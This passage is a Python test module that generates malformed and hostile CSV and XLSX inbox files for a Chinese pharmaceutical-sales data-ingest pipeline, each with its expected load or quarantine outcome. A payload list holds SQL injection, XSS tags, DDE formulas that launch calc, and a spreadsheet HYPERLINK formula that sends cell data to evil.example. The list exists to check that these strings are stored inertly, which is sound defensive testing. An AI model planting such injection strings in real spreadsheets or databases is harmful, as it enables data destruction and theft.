"""The bad-input corpus: inbox files generated in code, each row with the outcome the contract asks for.

A ``Case`` is one inbox file and what must become of each of its data lines: ``loaded``,
``duplicate`` (an exact copy of an earlier row of the file, skipped), ``superseded`` (loaded, then
replaced by a later file's row with the same key) or ``quarantined`` with a reason, a column and a
status. A file rejected as a whole without data rows has one ``file`` entry at line 1. Expected
values are written by hand from the contract (sections 2 and 3) and docs/ingest.md; nothing here is
derived from the code under test.

``corpus()`` returns every case for one nightly run on ``RUN_DATE``: clean master data first (so
facts find their references), then the bad files.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass, field

import xlsxwriter

RUN_DATE = dt.date(2026, 11, 2)  # cutoff 2026-11-01
DAY = "2026-11-01"

# Payloads that must load verbatim as text (or be quarantined) and never run: SQL, HTML, spreadsheet formulas.
PAYLOADS = (
    "'; DROP TABLE patients; --",
    "Robert'); DROP TABLE staff;--",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"; DELETE FROM quarantine; --',
)


@dataclass(frozen=True)
class Row:
    line: int
    outcome: str  # loaded | duplicate | superseded | quarantined | file
    reason: str | None = None
    column: str | None = None
    status: str | None = None  # rejected | waiting (quarantined rows)


@dataclass
class Case:
    name: str
    path: str  # relative to the inbox
    data: bytes
    rows: list[Row]
    status: str = "done"  # ingest_files.status: done | rejected
    message: str | None = None  # a text the file's messages must contain
    # Values the feed table must hold afterwards: (table, key value) -> {column: value}.
    stored: dict[tuple[str, str], dict[str, object]] = field(default_factory=dict)
    bad: bool = True  # False for the clean master data the bad files refer to

    @property
    def rows_read(self) -> int:
        return sum(1 for r in self.rows if r.outcome != "file")


def csv_text(header: list[str], rows: list[list[str]], newline: str = "\n") -> str:
    """RFC 4180 text (fields quoted only where needed), as a spreadsheet would export it."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def loaded(n: int, first: int = 2) -> list[Row]:
    return [Row(line, "loaded") for line in range(first, first + n)]


def q(line: int, reason: str, column: str | None, status: str = "rejected") -> Row:
    return Row(line, "quarantined", reason, column, status)


# --- clean master data --------------------------------------------------------------------------

OFFICES = [["OF001", "杭州办事处", "华东", "0"], ["OF002", "临安办事处", "华东", "1"]]
STAFF = [
    ["S001", "张伟", "rep", "zhang.wei@example.com", "OF001", "S009", "GEN", "1"],
    ["S002", "李娜", "callback", "li.na@example.com", "OF001", "S009", "", "1"],
    ["S003", "陈静", "home_visit", "chen.jing@example.com", "OF002", "S009", "", "1"],
    ["S009", "王强", "manager", "wang.qiang@example.com", "OF001", "", "", "1"],
    ["S010", "刘洋", "ops", "liu.yang@example.com", "OF001", "", "", "1"],
]
STAFF_HEADER = ["staff_id", "name", "role", "email", "office_code", "manager_id", "team", "active"]
PRODUCTS = [["PR01", "心脉通胶囊", "30", "1", "88.0"], ["PR02", "降糖片", "60", "2", "45.5"]]
CUSTOMERS_HEADER = [
    "customer_id",
    "name",
    "kind",
    "institution",
    "department",
    "title",
    "terminal_type",
    "is_kol",
    "owner_staff_id",
    "office_code",
]
CUSTOMERS = [
    ["D001", "周医生", "doctor", "杭州市第一医院", "心内科", "主任", "", "0", "S001", "OF001"],
    ["T001", "仁和药店", "terminal", "仁和药店", "", "", "pharmacy", "0", "S001", "OF001"],
]
PATIENTS_HEADER = [
    "patient_id",
    "name",
    "phone",
    "gender",
    "age",
    "disease",
    "village",
    "township",
    "office_code",
    "callback_staff_id",
    "home_visit_staff_id",
    "informed",
    "contact_name",
    "contact_relation",
]
PATIENTS = [
    ["P0001", "赵敏", "13812340001", "F", "66", "高血压", "", "", "OF001", "S002", "", "1", "", ""],
    ["P0002", "钱多多", "13812340002", "M", "70", "糖尿病", "", "", "OF001", "S002", "", "0", "钱小二", "儿子"],
]
PURCHASES_HEADER = ["purchase_id", "patient_id", "product_code", "boxes", "purchase_date", "channel", "amount"]
VISITS_HEADER = ["visit_id", "staff_id", "target_type", "target_id", "visit_at", "channel", "outcome", "commitment"]
CONSULTS_HEADER = ["consult_id", "received_at", "name", "phone", "disease", "source", "came_in", "purchased"]
CONSULTS_HEADER += ["office_code", "staff_id"]
ORDERS_HEADER = ["order_id", "customer_id", "product_code", "quantity", "amount", "order_date", "kind"]
RX_HEADER = ["month", "customer_id", "product_code", "our_rx", "market_rx"]


def master() -> list[Case]:
    def clean(name: str, header: list[str], rows: list[list[str]]) -> Case:
        return Case(f"clean {name}", f"{DAY}/{name}.csv", csv_text(header, rows).encode(), loaded(len(rows)), bad=False)

    return [
        clean("offices", ["office_code", "name", "region", "is_rural"], OFFICES),
        clean("staff", STAFF_HEADER, STAFF),
        clean("products", ["product_code", "name", "units_per_box", "daily_units", "price_per_box"], PRODUCTS),
        clean("customers", CUSTOMERS_HEADER, CUSTOMERS),
        clean("patients", PATIENTS_HEADER, PATIENTS),
        clean(
            "purchases",
            PURCHASES_HEADER,
            [["PU0001", "P0001", "PR01", "2", "2026-10-20", "store", "176"]],
        ),
    ]


# --- structure: truncation, quotes, field counts, headers, empty files -------------------------


def purchase(pid: str, patient: str = "P0001", boxes: str = "1", date: str = "2026-10-25") -> list[str]:
    return [pid, patient, "PR01", boxes, date, "store", "88"]


def structure() -> list[Case]:
    cases: list[Case] = []
    good = csv_text(PURCHASES_HEADER, [purchase("TR1"), purchase("TR2"), purchase("TR3")])
    cases.append(
        Case(
            "truncated mid-row",
            f"{DAY}/purchases_truncated.csv",
            (good + "TR4,P0001,PR01,1,2026-1").encode(),
            [*loaded(3), q(5, "wrong_field_count", None)],
        )
    )
    patients = csv_text([*PATIENTS_HEADER[:3], "office_code"], [["PT1", "孙丽", "13812340101", "OF001"]])
    cut = (patients + "PT2,欧阳娜娜,13812340102,OF001\n").encode()
    cases.append(
        Case(
            "UTF-8 truncated mid-character",
            f"{DAY}/patients_cut_utf8.csv",
            cut[: cut.index("娜娜".encode()) + 2],  # two of the three bytes of 娜
            [*loaded(1), q(3, "bad_encoding", None)],
        )
    )
    cut = (patients.replace("PT1", "PT3") + "PT4,欧阳娜娜,13812340104,OF001\n").encode("gb18030")
    cases.append(
        Case(
            "GB18030 truncated mid-character",
            f"{DAY}/patients_cut_gb.csv",
            cut[: cut.index("娜娜".encode("gb18030")) + 1],  # one of the two bytes of 娜
            [*loaded(1), q(3, "bad_encoding", None)],
        )
    )
    body = (
        "QU1,P0001,PR01,1,2026-10-25,store,88\n"
        'QU2,"P0001,PR01,1,2026-10-25,store,88\n'  # a quote opened and never closed
        "QU3,P0001,PR01,1,2026-10-25,store,88\n"
        'QU4,P0001,PR01,1,2026-10-25,"sto"re,88\n'  # text after a closing quote
        'QU5,P0001,PR01,1,2026-10-25,store,"8\n8"\n'  # a quoted field over two lines: line 6
        "QU6,P0001,PR01,1,2026-10-25,store,88,extra\n"  # line 8
        "QU7,P0001,PR01,1\n"
        'QU8,P0001,PR01,1,2026-10-25,"store",88\n'
    )
    cases.append(
        Case(
            "unbalanced and bad quotes, extra and missing fields (quoted path)",
            f"{DAY}/purchases_quotes.csv",
            (",".join(PURCHASES_HEADER) + "\n" + body).encode(),
            [
                Row(2, "loaded"),
                q(3, "unbalanced_quote", None),
                Row(4, "loaded"),
                q(5, "bad_quoting", None),
                q(6, "bad_number", "amount"),  # "8\n8" is read whole, and is not a number
                q(8, "wrong_field_count", None),
                q(9, "wrong_field_count", None),
                Row(10, "loaded"),
            ],
        )
    )
    body = "FC1,P0001,PR01,1,2026-10-25,store,88\nFC2,P0001,PR01,1,2026-10-25,store,88,,\nFC3,P0001\n,,,,,,\n"
    cases.append(
        Case(
            "extra and missing fields per row, an all-empty row (unquoted path)",
            f"{DAY}/purchases_fields.csv",
            (",".join(PURCHASES_HEADER) + "\n" + body).encode(),
            [
                Row(2, "loaded"),
                q(3, "wrong_field_count", None),
                q(4, "wrong_field_count", None),
                q(5, "missing_value", "purchase_id"),
            ],
        )
    )
    cases.append(
        Case(
            "extra columns in the header",
            f"{DAY}/purchases_extra_header.csv",
            csv_text([*PURCHASES_HEADER, "备注", "remark"], [[*purchase("EH1"), "x", "y"]]).encode(),
            loaded(1),
            message="unknown columns ignored: 备注, remark",
        )
    )
    cases.append(
        Case(
            "a required column missing from the header",
            f"{DAY}/purchases_missing_header.csv",
            csv_text(
                [c for c in PURCHASES_HEADER if c != "product_code"],
                [["MH1", "P0001", "1", "2026-10-25", "store", "88"], [], ["MH2", "P0001", "1", "2026-10-25", "", ""]],
            ).encode(),
            [q(2, "missing_column", "product_code"), q(4, "missing_column", "product_code")],
            status="rejected",
            message="required column product_code missing from the header",
        )
    )
    cases.append(
        Case(
            "optional columns missing from the header",
            f"{DAY}/purchases_optional_missing.csv",
            csv_text(PURCHASES_HEADER[:5], [purchase("OM1")[:5]]).encode(),
            loaded(1),
            stored={("purchases", "OM1"): {"channel": None, "amount": None}},
        )
    )
    cases.append(
        Case(
            "the header line has a broken quote",
            f"{DAY}/visits_bad_header.csv",
            b'visit_id,"staff_id,target_type\nBH1,S001,customer\nBH2,S001,customer\n',
            [q(2, "bad_header", None), q(3, "bad_header", None)],
            status="rejected",
            message="the header line cannot be read",
        )
    )
    cases.append(
        Case("header only", f"{DAY}/purchases_header_only.csv", (",".join(PURCHASES_HEADER) + "\n").encode(), [])
    )
    cases.append(
        Case(
            "an empty (0-byte) file",
            f"{DAY}/purchases_empty.csv",
            b"",
            [Row(1, "file", "empty_file", None, "rejected")],
            status="rejected",
            message="the file is empty",
        )
    )
    cases.append(
        Case(
            "only a byte-order mark and blank lines",
            f"{DAY}/purchases_bom_only.csv",
            b"\xef\xbb\xbf\r\n\r\n",
            [Row(1, "file", "empty_file", None, "rejected")],
            status="rejected",
            message="the file is empty",
        )
    )
    cases.append(
        Case(
            "NUL bytes: not text",
            f"{DAY}/purchases_binary.csv",
            b"\x00\x01\x02PDF\x00" * 10,
            [Row(1, "file", "not_text", None, "rejected")],
            status="rejected",
            message="not text",
        )
    )
    return cases


# --- encodings and line endings -----------------------------------------------------------------


def encodings() -> list[Case]:
    header = "patient_id,name,phone,office_code\n"
    gb = (header + "GB1,孙丽,13812340201,OF001\nGB2,周杰伦,13812340202,OF001\n").encode("gb18030")
    gb += b"GB3,\xff\xfe\xfd,13812340203,OF001\n" + "GB4,吴磊,13812340204,OF001\n".encode("gb18030")
    utf = (header + "UT1,孙丽,13812340301,OF001\nUT2,周杰伦,13812340302,OF001\n").encode()
    utf += "UT3,孙丽,13812340303,OF001\n".encode("gb18030") + "UT4,吴磊,13812340304,OF001\n".encode()
    return [
        Case(
            "invalid bytes in a GB18030 file",
            f"{DAY}/patients_gb_invalid.csv",
            gb,
            [*loaded(2), q(4, "bad_encoding", None), Row(5, "loaded")],
            stored={("patients", "GB2"): {"name": "周杰伦"}, ("patients", "GB4"): {"name": "吴磊"}},
        ),
        Case(
            "GB18030 bytes in a UTF-8 file",
            f"{DAY}/patients_utf8_with_gb.csv",
            utf,
            [*loaded(2), q(4, "bad_encoding", None), Row(5, "loaded")],
            stored={("patients", "UT2"): {"name": "周杰伦"}, ("patients", "UT4"): {"name": "吴磊"}},
        ),
        Case(
            "UTF-8 with a BOM and Chinese headers",
            f"{DAY}/patients_bom.csv",
            b"\xef\xbb\xbf" + "患者编号,姓名,电话,办事处编码\nBO1,孙丽,13812340401,OF001\n".encode(),
            loaded(1),
            stored={("patients", "BO1"): {"name": "孙丽", "phone": "13812340401"}},
        ),
        Case(
            "mixed line endings \\r\\n, \\n and \\r",
            f"{DAY}/purchases_line_endings.csv",
            (
                ",".join(PURCHASES_HEADER)
                + "\r\nLE1,P0001,PR01,1,2026-10-25,store,88\nLE2,P0001,PR01,x,2026-10-25,store,88\r"
                + "LE3,P0001,PR01,1,2026-10-25,store,88\r\n\r\nLE4,P0001,PR01,1,2026-10-25,store,88\r\n"
            ).encode(),
            [Row(2, "loaded"), q(3, "bad_number", "boxes"), Row(4, "loaded"), Row(6, "loaded")],
        ),
    ]


# --- values: dates, phones, quantities ----------------------------------------------------------

EXCEL_SERIAL = (dt.date(2026, 10, 21) - dt.date(1899, 12, 30)).days  # 46316

VALID_DATES = {  # text -> the date it means
    "2026-10-21": "2026-10-21",
    "2026/10/21": "2026-10-21",
    "2026/1/5": "2026-01-05",
    "2026-1-5": "2026-01-05",
    "20261021": "2026-10-21",
    str(EXCEL_SERIAL): "2026-10-21",
    f"{EXCEL_SERIAL}.0": "2026-10-21",
    "2000-01-01": "2000-01-01",
    "2026-11-01": "2026-11-01",  # the cutoff day itself
}
INVALID_DATES = (
    "2026-13-45",
    "2026-02-30",
    "21/10/2026",
    "10/21/2026",
    "yesterday",
    "2026.10.21",
    "20261340",
    "26-10-21",
)
IMPLAUSIBLE_DATES = ("1999-12-31", "1900-01-01", "2028-01-01")  # before 2000, more than a year ahead
AFTER_CUTOFF = ("2026-11-02", "2026-12-31")  # on or after the run date: wait

VALID_DATETIMES = {
    "2026-10-21 09:30": "2026-10-21 09:30:00",
    "2026/10/21 09:30:15": "2026-10-21 09:30:15",
    "20261021 23:59": "2026-10-21 23:59:00",
    "2026-10-21": "2026-10-21 00:00:00",
    f"{EXCEL_SERIAL}.5": "2026-10-21 12:00:00",
}
INVALID_DATETIMES = ("2026-10-21 25:00", "2026-10-21 09:61", "2026-10-21T", "9:30 2026-10-21")
INVALID_MONTHS = ("2026-13", "Sept 2026", "2026-9-")

VALID_PHONES = {  # text -> stored
    "13812345678": "13812345678",
    "+86 138 1234 5679": "13812345679",
    "86-138-1234-5680": "13812345680",
    "+8613812345681": "13812345681",
    "138-1234-5682": "13812345682",
    "138 1234 5683": "13812345683",
    "13812345684.0": "13812345684",
    "1.3812345685E10": "13812345685",
    "1.3812345686e+10": "13812345686",
    "010-12345678": "010-12345678",
    "0571-87654321": "0571-87654321",
    "01012345679": "010-12345679",
    "057187654322": "0571-87654322",
    "(010) 1234 5680": "010-12345680",
    "19912345687": "19912345687",
}
LOST_DIGITS = ("1.38E+10", "1.381234E10")
BAD_PHONES = ("12812345678", "1381234567", "138123456789", "+1 415 555 0100", "phone", "010-123", "８６13812345678")


def values() -> list[Case]:
    cases: list[Case] = []
    rows: list[list[str]] = []
    expect: list[Row] = []
    stored: dict[tuple[str, str], dict[str, object]] = {}
    line = 2
    for i, (text, iso) in enumerate(VALID_DATES.items()):
        rows.append(purchase(f"DV{i}", date=text))
        expect.append(Row(line, "loaded"))
        stored[("purchases", f"DV{i}")] = {"purchase_date": iso}
        line += 1
    for i, text in enumerate(INVALID_DATES):
        rows.append(purchase(f"DI{i}", date=text))
        expect.append(q(line, "bad_date", "purchase_date"))
        line += 1
    for i, text in enumerate(IMPLAUSIBLE_DATES):
        rows.append(purchase(f"DP{i}", date=text))
        expect.append(q(line, "implausible_date", "purchase_date"))
        line += 1
    for i, text in enumerate(AFTER_CUTOFF):
        rows.append(purchase(f"DC{i}", date=text))
        expect.append(q(line, "after_cutoff", "purchase_date", "waiting"))
        line += 1
    cases.append(
        Case(
            "every date form, valid and invalid",
            f"{DAY}/purchases_dates.csv",
            enc(PURCHASES_HEADER, rows),
            expect,
            stored=stored,
        )
    )

    rows, expect, stored, line = [], [], {}, 2
    visit = ["S001", "customer", "D001"]
    for i, (text, iso) in enumerate(VALID_DATETIMES.items()):
        rows.append([f"TV{i}", *visit, text, "face", "completed", ""])
        expect.append(Row(line, "loaded"))
        stored[("visits", f"TV{i}")] = {"visit_at": iso}
        line += 1
    for i, text in enumerate(INVALID_DATETIMES):
        rows.append([f"TI{i}", *visit, text, "face", "completed", ""])
        expect.append(q(line, "bad_datetime", "visit_at"))
        line += 1
    rows.append(["TP0", *visit, "1999-12-31 10:00", "face", "", ""])
    expect.append(q(line, "implausible_date", "visit_at"))
    rows.append(["TC0", *visit, "2026-11-02 00:00", "face", "", ""])
    expect.append(q(line + 1, "after_cutoff", "visit_at", "waiting"))
    rows.append(["TC1", *visit, "2026-11-01 23:59:59", "face", "", ""])
    expect.append(Row(line + 2, "loaded"))
    cases.append(
        Case("every datetime form", f"{DAY}/visits_datetimes.csv", enc(VISITS_HEADER, rows), expect, stored=stored)
    )

    # Each valid month form names another month, so that every row has its own key.
    rows = [
        ["2026-09", "D001", "PR01", "10", "100"],
        ["2026/8", "D001", "PR01", "11", "101"],
        ["202607", "D001", "PR01", "12", "102"],
        ["2026-06-15", "D001", "PR01", "13", "103"],
    ]
    stored = {
        ("rx_monthly", "2026-09-01"): {"our_rx": 10},
        ("rx_monthly", "2026-08-01"): {"our_rx": 11},
        ("rx_monthly", "2026-07-01"): {"our_rx": 12},
        ("rx_monthly", "2026-06-01"): {"our_rx": 13},
    }
    expect = loaded(4)
    for i, text in enumerate(INVALID_MONTHS):
        rows.append([text, "D001", "PR01", "1", "1"])
        expect.append(q(6 + i, "bad_month", "month"))
    rows.append(["2026-11", "D001", "PR01", "1", "1"])  # November is not complete by the cutoff
    expect.append(q(9, "after_cutoff", "month", "waiting"))
    rows.append(["1999-12", "D001", "PR01", "1", "1"])
    expect.append(q(10, "implausible_date", "month"))
    cases.append(Case("every month form", f"{DAY}/rx_monthly_months.csv", enc(RX_HEADER, rows), expect, stored=stored))

    rows, expect, stored, line = [], [], {}, 2
    for i, (text, normal) in enumerate(VALID_PHONES.items()):
        rows.append([f"PV{i:02}", "患者", text, "OF001"])
        expect.append(Row(line, "loaded"))
        stored[("patients", f"PV{i:02}")] = {"phone": normal}
        line += 1
    for i, text in enumerate(LOST_DIGITS):
        rows.append([f"PL{i}", "患者", text, "OF001"])
        expect.append(q(line, "phone_lost_digits", "phone"))
        line += 1
    for i, text in enumerate(BAD_PHONES):
        rows.append([f"PB{i}", "患者", text, "OF001"])
        expect.append(q(line, "bad_phone", "phone"))
        line += 1
    rows.append(["PE0", "患者", "", "OF001"])
    expect.append(q(line, "missing_value", "phone"))
    cases.append(
        Case(
            "every phone form, valid and invalid",
            f"{DAY}/patients_phones.csv",
            enc(["patient_id", "name", "phone", "office_code"], rows),
            expect,
            stored=stored,
        )
    )

    quantities = [  # boxes text, outcome
        ("1", None),
        ("1000", None),
        ("7.0", None),
        ("0", "out_of_range"),
        ("-3", "out_of_range"),
        ("1001", "out_of_range"),
        ("5000", "out_of_range"),
        ("1.5", "bad_number"),
        ("99999999999999999999999", "bad_number"),
        ("1e3", "bad_number"),
        ("三", "bad_number"),
    ]
    rows = [purchase(f"QB{i}", boxes=text) for i, (text, _) in enumerate(quantities)]
    expect = [Row(2 + i, "loaded") if r is None else q(2 + i, r, "boxes") for i, (_, r) in enumerate(quantities)]
    cases.append(
        Case(
            "negative and absurd purchase quantities",
            f"{DAY}/purchases_quantities.csv",
            enc(PURCHASES_HEADER, rows),
            expect,
            stored={("purchases", "QB2"): {"boxes": 7}},
        )
    )
    orders = [  # quantity, amount, expected (reason, column)
        ("5", "440", None),
        ("5", "¥440.50", None),
        ("-1", "88", ("out_of_range", "quantity")),
        ("3000000000", "88", ("out_of_range", "quantity")),
        ("1", "-88", ("out_of_range", "amount")),
        ("1", "0", ("out_of_range", "amount")),
        ("1", "1e15", ("out_of_range", "amount")),
        ("1", "inf", ("bad_number", "amount")),
        ("1", "nan", ("bad_number", "amount")),
        ("1", "1e400", ("bad_number", "amount")),
    ]
    rows = [[f"OQ{i}", "T001", "PR01", qty, amount, "2026-10-20", "order"] for i, (qty, amount, _) in enumerate(orders)]
    expect = [Row(2 + i, "loaded") if e is None else q(2 + i, *e) for i, (_, _, e) in enumerate(orders)]
    cases.append(
        Case(
            "negative and absurd order quantities and amounts",
            f"{DAY}/orders_quantities.csv",
            enc(ORDERS_HEADER, rows),
            expect,
            stored={("orders", "OQ1"): {"amount": 440.5}},
        )
    )
    rows = [
        ["2026-05", "D001", "PR01", "-1", "100"],
        ["2026-05", "D001", "PR02", "10", "2147483648"],
    ]
    cases.append(
        Case(
            "negative and absurd prescription counts",
            f"{DAY}/rx_monthly_counts.csv",
            enc(RX_HEADER, rows),
            [q(2, "out_of_range", "our_rx"), q(3, "out_of_range", "market_rx")],
        )
    )
    return cases


def enc(header: list[str], rows: list[list[str]]) -> bytes:
    return csv_text(header, rows).encode()


# --- ids and references -------------------------------------------------------------------------


def ids_and_references() -> list[Case]:
    dup = [
        purchase("DU1", boxes="1"),
        purchase("DU2", boxes="2"),
        purchase("DU1", boxes="3"),  # same id, other values: both quarantined
        purchase("DU2", boxes="2"),  # identical to line 3: an exact duplicate
        purchase("DU3"),
    ]
    cases = [
        Case(
            "duplicate ids within a file",
            f"{DAY}/purchases_dup_within.csv",
            enc(PURCHASES_HEADER, dup),
            [
                q(2, "duplicate_id", "purchase_id"),
                Row(3, "loaded"),
                q(4, "duplicate_id", "purchase_id"),
                Row(5, "duplicate"),
                Row(6, "loaded"),
            ],
        ),
        Case(
            "duplicate ids across files (first file)",
            f"{DAY}/purchases_dup_x1.csv",
            enc(PURCHASES_HEADER, [purchase("DX1", boxes="4"), purchase("DX2", boxes="5")]),
            [Row(2, "superseded"), Row(3, "loaded")],
        ),
        Case(
            "duplicate ids across files (later file wins)",
            f"{DAY}/purchases_dup_x2.csv",
            enc(PURCHASES_HEADER, [purchase("DX1", boxes="6")]),
            loaded(1),
            stored={("purchases", "DX1"): {"boxes": 6}, ("purchases", "DX2"): {"boxes": 5}},
        ),
    ]
    cases.append(
        Case(
            "unknown references and references to the wrong kind",
            f"{DAY}/purchases_refs.csv",
            enc(
                PURCHASES_HEADER,
                [purchase("RF1", patient="P9999"), ["RF2", "P0001", "PR99", "1", "2026-10-25", "store", "88"]],
            ),
            [q(2, "unknown_patient", "patient_id", "waiting"), q(3, "unknown_product", "product_code", "waiting")],
        )
    )
    cases.append(
        Case(
            "visits of unknown targets and staff",
            f"{DAY}/visits_refs.csv",
            enc(
                VISITS_HEADER,
                [
                    ["VR1", "S001", "customer", "D999", "2026-10-21 09:00", "face", "", ""],
                    ["VR2", "S001", "patient", "D001", "2026-10-21 09:00", "phone", "", ""],  # D001 is a customer
                    ["VR3", "S999", "customer", "D001", "2026-10-21 09:00", "face", "", ""],
                    ["VR4", "S001", "doctor", "D001", "2026-10-21 09:00", "face", "", ""],
                ],
            ),
            [
                q(2, "unknown_target", "target_id", "waiting"),
                q(3, "unknown_target", "target_id", "waiting"),
                q(4, "unknown_staff", "staff_id", "waiting"),
                q(5, "bad_value", "target_type"),
            ],
        )
    )
    cases.append(
        Case(
            "orders and prescriptions for the wrong kind of customer",
            f"{DAY}/orders_refs.csv",
            enc(
                ORDERS_HEADER,
                [
                    ["OR1", "D001", "PR01", "1", "88", "2026-10-20", "order"],
                    ["OR2", "T999", "PR01", "1", "88", "2026-10-20", "order"],
                    ["OR3", "T001", "PR01", "1", "88", "2026-10-20", "gift"],
                    ["OR4", "T001", "PR01", "1", "88", "2026-10-20", "退货"],
                ],
            ),
            [
                q(2, "not_a_terminal", "customer_id"),
                q(3, "unknown_customer", "customer_id", "waiting"),
                q(4, "bad_value", "kind"),
                Row(5, "loaded"),
            ],
            stored={("orders", "OR4"): {"kind": "return"}},
        )
    )
    cases.append(
        Case(
            "prescriptions for a terminal",
            f"{DAY}/rx_monthly_refs.csv",
            enc(RX_HEADER, [["2026-04", "T001", "PR01", "1", "2"]]),
            [q(2, "not_a_doctor", "customer_id")],
        )
    )
    cases.append(
        Case(
            "a patient's callback staff member who is a rep",
            f"{DAY}/patients_refs.csv",
            enc(
                ["patient_id", "name", "phone", "office_code", "callback_staff_id", "home_visit_staff_id"],
                [
                    ["RP1", "患者", "13812340501", "OF001", "S001", ""],
                    ["RP2", "患者", "13812340502", "OF009", "", ""],
                    ["RP3", "患者", "13812340503", "OF001", "", "S002"],
                ],
            ),
            [
                q(2, "wrong_role", "callback_staff_id"),
                q(3, "unknown_office", "office_code", "waiting"),
                q(4, "wrong_role", "home_visit_staff_id"),
            ],
        )
    )
    long_id = "L" * 65
    cases.append(
        Case(
            "values longer than their columns",
            f"{DAY}/staff_lengths.csv",
            enc(
                STAFF_HEADER,
                [
                    [long_id, "长工号", "rep", "long.id@example.com", "OF001", "", "", "1"],
                    ["SL2", "长邮箱", "rep", "e" * 250 + "@example.com", "OF001", "", "", "1"],
                    ["SL3", "名" * 1001, "rep", "sl3@example.com", "OF001", "", "", "1"],
                    ["SL4", "名" * 1000, "rep", "sl4@example.com", "OF001", "", "", "0"],
                    ["SL5", "坏邮箱", "rep", "not-an-email", "OF001", "", "", "1"],
                    ["SL6", "坏角色", "boss", "sl6@example.com", "OF001", "", "", "1"],
                ],
            ),
            [
                q(2, "too_long", "staff_id"),
                q(3, "too_long", "email"),
                q(4, "too_long", "name"),
                Row(5, "loaded"),
                q(6, "bad_email", "email"),
                q(7, "bad_value", "role"),
            ],
        )
    )
    return cases


def huge_field(megabytes: int = 50) -> Case:
    """A 50 MB quoted commitment between two good visits: only its own row is quarantined."""
    big = "承诺" * (megabytes * 1024 * 1024 // 6)  # 3 bytes a character in UTF-8
    rows = [
        ["HF1", "S001", "customer", "D001", "2026-10-21 09:00", "face", "", "下周再访"],
        ["HF2", "S001", "customer", "D001", "2026-10-21 10:00", "face", "", big + ",\n"],
        ["HF3", "S001", "customer", "D001", "2026-10-21 11:00", "face", "", ""],
    ]
    return Case(
        f"a {megabytes} MB field",
        f"{DAY}/visits_huge_field.csv",
        enc(VISITS_HEADER, rows),
        [Row(2, "loaded"), q(3, "too_long", "commitment"), Row(5, "loaded")],
    )


# --- payloads in every text field ---------------------------------------------------------------


def payload_cases() -> list[Case]:
    """Every text field (and the id of each fact) gets every payload, spread over a few rows per feed."""
    n = len(PAYLOADS)

    def spread(columns: list[str], row: int) -> dict[str, str]:
        return {c: PAYLOADS[(row + i) % n] for i, c in enumerate(columns)}

    cases: list[Case] = []

    def add(feed: str, header: list[str], make, text_columns: list[str], key: str, prefix: str) -> None:
        rows, stored = [], {}
        for r in range(n):
            texts = spread(text_columns, r)
            row = make(f"{prefix}{r}", texts)
            rows.append([row[c] for c in header])
            stored[(feed, row[key])] = texts
        cases.append(
            Case(f"payloads in {feed}", f"{DAY}/{feed}_payloads.csv", enc(header, rows), loaded(n), stored=stored)
        )

    add(
        "offices",
        ["office_code", "name", "region", "is_rural"],
        lambda k, t: {"office_code": k, "is_rural": "0", **t},
        ["name", "region"],
        "office_code",
        "OX",
    )
    add(
        "staff",
        STAFF_HEADER,
        lambda k, t: {
            "staff_id": k,
            "role": "rep",
            "email": f"{k.lower()}@example.com",
            "office_code": "OF001",
            "manager_id": "S009",
            "active": "1",
            **t,
        },
        ["name", "team"],
        "staff_id",
        "SX",
    )
    add(
        "products",
        ["product_code", "name", "units_per_box", "daily_units", "price_per_box"],
        lambda k, t: {"product_code": k, "units_per_box": "10", "daily_units": "1", "price_per_box": "5", **t},
        ["name"],
        "product_code",
        "PX",
    )
    add(
        "customers",
        CUSTOMERS_HEADER,
        lambda k, t: {
            "customer_id": k,
            "kind": "doctor",
            "terminal_type": "",
            "is_kol": "0",
            "owner_staff_id": "S001",
            "office_code": "OF001",
            **t,
        },
        ["name", "institution", "department", "title"],
        "customer_id",
        "CX",
    )
    add(
        "patients",
        PATIENTS_HEADER,
        lambda k, t: {
            "patient_id": k,
            "phone": f"1391234{int(k[2:]):04}",
            "gender": "F",
            "age": "50",
            "office_code": "OF001",
            "callback_staff_id": "S002",
            "home_visit_staff_id": "",
            "informed": "1",
            **t,
        },
        ["name", "disease", "village", "township", "contact_name", "contact_relation"],
        "patient_id",
        "HX",
    )
    add(
        "purchases",
        PURCHASES_HEADER,
        lambda k, t: {
            "patient_id": f"HX{k[2:]}",
            "product_code": "PR01",
            "boxes": "1",
            "purchase_date": "2026-10-28",
            "channel": "store",
            "amount": "88",
            **t,
        },
        ["purchase_id"],
        "purchase_id",
        "UX",
    )
    add(
        "visits",
        VISITS_HEADER,
        lambda k, t: {
            "staff_id": "S001",
            "target_type": "customer",
            "target_id": f"CX{k[2:]}",
            "visit_at": "2026-10-21 09:00",
            "channel": "face",
            "outcome": "completed",
            **t,
        },
        ["visit_id", "commitment"],
        "visit_id",
        "VX",
    )
    add(
        "consults",
        CONSULTS_HEADER,
        lambda k, t: {
            "consult_id": k,
            "received_at": "2026-10-30 19:00",
            "phone": f"1371234{int(k[2:]):04}",
            "came_in": "0",
            "purchased": "0",
            "office_code": "OF001",
            "staff_id": "S002",
            **t,
        },
        ["name", "disease", "source"],
        "consult_id",
        "KX",
    )
    add(
        "orders",
        ORDERS_HEADER,
        lambda k, t: {
            "customer_id": "T001",
            "product_code": "PR01",
            "quantity": "2",
            "amount": "176",
            "order_date": "2026-10-15",
            "kind": "order",
            **t,
        },
        ["order_id"],
        "order_id",
        "RX",
    )
    return cases


# --- workbooks ----------------------------------------------------------------------------------


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, str):
                ws.write_string(r, c, value)  # write() would turn "=..." into a formula
            elif value is not None:
                ws.write_number(r, c, value)
    wb.close()
    return buf.getvalue()


XLSX_FORMULA = '=HYPERLINK("http://evil.example/xlsx","打开")'  # a text cell, not a formula


def workbooks() -> list[Case]:
    book = xlsx_bytes(
        [
            PURCHASES_HEADER,
            ["WB1", "P0001", "PR01", 2, "2026-10-25", "store", 176],
            ["WB2", "P0001", "PR01", -2, "2026-10-25", "store", 176],
            [None] * 7,
            [XLSX_FORMULA, "P0001", "PR01", 1, EXCEL_SERIAL, "store", 88.5],
